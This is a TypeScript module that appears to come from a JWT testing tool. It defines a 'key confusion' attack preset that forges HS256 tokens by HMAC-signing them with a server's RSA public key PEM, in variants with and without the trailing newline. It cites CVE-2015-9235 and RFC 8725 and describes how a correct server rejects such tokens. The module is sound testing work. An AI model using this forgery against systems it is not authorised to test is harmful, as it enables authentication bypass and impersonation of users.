import { describeJwk, jwkToPem, readKey } from '../keys/export';
import { hmacSha256, signingInput } from './encode';
import type { AttackPreset } from './types';

export const keyConfusion: AttackPreset = {
  id: 'key-confusion',
  title: 'RS/HS key confusion',
  tests:
    'Whether the server lets the token pick HS256 while holding an RSA public key: the token is HMAC-signed with the bytes of the public key PEM, which everyone can download.',
  correctServer:
    'Rejects it: the key is bound to one algorithm (RS256), so an HS256 token is refused before any HMAC is computed.',
  reference: 'RFC 8725 §2.1, §3.1; CVE-2015-9235',
  needs: 'publicKey',
  async build({ header, payload, publicKey }) {
    if (!publicKey) throw new Error("Paste or generate the server's RSA public key first.");
    const reading = await readKey(publicKey);
    if (!reading.ok) throw new Error(reading.reason);
    if (reading.jwk.kty !== 'RSA')
      throw new Error(
        `Key confusion targets servers that hold an RSA public key; this key is ${describeJwk(reading.jwk)}.`,
      );
    // The vulnerable server reads its PEM file's bytes as the HMAC secret. A .pem file, as
    // OpenSSL and Node write it, ends with one "\n" after the END line, and that byte is part of
    // the secret; a server that trims the key (or reads it from an environment variable) has none.
    const { publicPem } = await jwkToPem(reading.jwk);
    const trimmedPem = publicPem.trimEnd();
    const filePem = `${trimmedPem}\n`;
    const forgedHeader = { ...header, alg: 'HS256' };
    const input = signingInput(forgedHeader, payload);
    const encoder = new TextEncoder();
    const [signature, trimmedSignature] = await Promise.all([
      hmacSha256(encoder.encode(filePem), input),
      hmacSha256(encoder.encode(trimmedPem), input),
    ]);
    return {
      token: `${input}.${signature}`,
      header: forgedHeader,
      payload,
      attackerKey: filePem,
      note: 'HMAC key: the public key PEM exactly as a .pem file holds it, final newline included.',
      variants: [
        {
          when: 'If the server trims its key or reads it from an environment variable (the PEM without its final newline)',
          token: `${input}.${trimmedSignature}`,
          attackerKey: trimmedPem,
        },
      ],
    };
  },
};
